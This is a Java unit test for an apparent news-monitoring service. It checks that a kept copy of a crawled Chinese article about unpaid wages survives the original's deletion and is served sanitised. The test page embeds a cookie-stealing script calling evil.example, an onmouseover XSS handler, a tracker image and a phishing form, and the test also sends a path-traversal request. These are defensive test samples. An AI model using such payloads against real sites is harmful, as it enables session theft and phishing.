package io.yuqing.app;

import com.sun.net.httpserver.HttpServer;
import io.micrometer.prometheusmetrics.PrometheusMeterRegistry;
import io.yuqing.alerting.Alert;
import io.yuqing.alerting.AlertFilter;
import io.yuqing.app.security.Role;
import io.yuqing.app.service.ServiceRunner;
import io.yuqing.app.service.YuqingService;
import io.yuqing.app.web.ConsoleServer;
import io.yuqing.core.config.ConfigLoader;
import io.yuqing.core.config.YuqingConfig;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.InetSocketAddress;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.atomic.AtomicBoolean;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Reviewers see a sanitised copy of the page behind an alert — also after the site deleted it — served under a policy
 * that lets nothing run or load, whatever the page carried.
 */
class PageCopyTest {
    @TempDir
    Path dir;

    private static final String ARTICLE = """
            <html><head><meta charset="gbk"><title>恒达建设工地拖欠农民工工资 - 青州新闻网</title>
            <script>fetch('https://evil.example/steal?c='+document.cookie)</script></head>
            <body><h1>恒达建设工地拖欠农民工工资</h1><p class="time">2026-11-24 09:30</p>
            <div class="article"><p onmouseover="alert(1)">青州恒达建设集团有限公司承建的滨江工地拖欠农民工工资，数十名工人聚集讨薪。</p>
            <p>工人表示工资已拖欠三个月，多次讨要未果，劳动监察部门已介入调查。<img src="https://tracker.example/p.gif"></p>
            <form action="https://evil.example/phish"><input name="pw"></form></div></body></html>
            """;

    @Test
    void theKeptCopyOutlivesTheOriginalAndCarriesNothingThatRuns() throws Exception {
        AtomicBoolean deleted = new AtomicBoolean();
        HttpServer site = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        String base = "http://127.0.0.1:" + site.getAddress().getPort();
        site.createContext("/", exchange -> {
            String path = exchange.getRequestURI().getPath();
            byte[] body;
            String type = "text/html";
            int status = 200;
            if (path.equals("/rss.xml")) {
                body = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>青州新闻网</title>"
                        + "<item><title>恒达建设工地拖欠农民工工资</title><link>" + base + "/news/1.html</link></item></channel></rss>")
                        .getBytes(StandardCharsets.UTF_8);
                type = "application/rss+xml";
            } else if (path.equals("/news/1.html") && !deleted.get()) {
                body = ARTICLE.getBytes(java.nio.charset.Charset.forName("GBK"));
            } else {
                status = 404;
                body = "<h1>该文章已被删除</h1>".getBytes(StandardCharsets.UTF_8);
            }
            exchange.getResponseHeaders().set("Content-Type", type);
            exchange.sendResponseHeaders(status, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        site.start();
        try {
            YuqingConfig config = new ConfigLoader().load("""
                    dataDir: %s
                    crawler:
                      politenessDelay: 0ms
                    desks:
                      - id: publicity
                        name: 宣传部
                        recipients: [xc@example.gov.cn]
                    watchlist:
                      enterprises:
                        - name: 青州恒达建设集团有限公司
                          shortNames: [恒达建设]
                    sources:
                      - id: site
                        kind: rss
                        url: %s/rss.xml
                        allowPrivateNetwork: true
                    """.formatted(dir.resolve("data"), base), "test.yml");
            PrometheusMeterRegistry registry = ServiceRunner.newRegistry();
            try (YuqingService service = YuqingService.open(config, Clock.systemUTC(), registry);
                 ConsoleServer console = ConsoleServer.start(service, registry, 0)) {
                console.users().add("admin", Role.ADMIN, null, "admin password 1", List.of("publicity"), "test");
                service.crawlOnce();
                List<Alert> alerts = service.alerts().list(AlertFilter.all(), 0, 10);
                assertEquals(1, alerts.size(), "the wage-arrears article alerts");
                Alert alert = alerts.getFirst();
                deleted.set(true);

                ConsoleClient admin = new ConsoleClient("http://127.0.0.1:" + console.port());
                admin.login("admin", "admin password 1");
                String detail = admin.get("/alerts/" + alert.id()).body();
                assertTrue(detail.contains("id=\"page-copy\""), detail);

                HttpResponse<String> copy = admin.get("/documents/" + alert.documentId() + "/copy");
                assertEquals(200, copy.statusCode());
                String csp = copy.headers().firstValue("Content-Security-Policy").orElse("");
                assertTrue(csp.contains("sandbox") && csp.contains("default-src 'none'") && !csp.contains("allow-scripts"), csp);
                String body = copy.body();
                assertTrue(body.contains("数十名工人聚集讨薪") && body.contains("网页存档"), "the text, decoded from GBK: " + body);
                String lower = body.toLowerCase(Locale.ROOT);
                for (String banned : List.of("<script", "onmouseover", "<img", "<form", "<input", "evil.example", "tracker.example")) {
                    assertFalse(lower.contains(banned), banned + " in the copy");
                }
                assertEquals(404, admin.get("/documents/" + "0".repeat(32) + "/copy").statusCode());
                assertEquals(404, admin.get("/documents/..%2F..%2Fetc/copy").statusCode());

                ConsoleClient anonymous = new ConsoleClient("http://127.0.0.1:" + console.port());
                assertFalse(anonymous.get("/documents/" + alert.documentId() + "/copy").body().contains("聚集讨薪"),
                        "only staff who are logged in see copies");
            }
        } finally {
            site.stop(0);
        }
    }
}
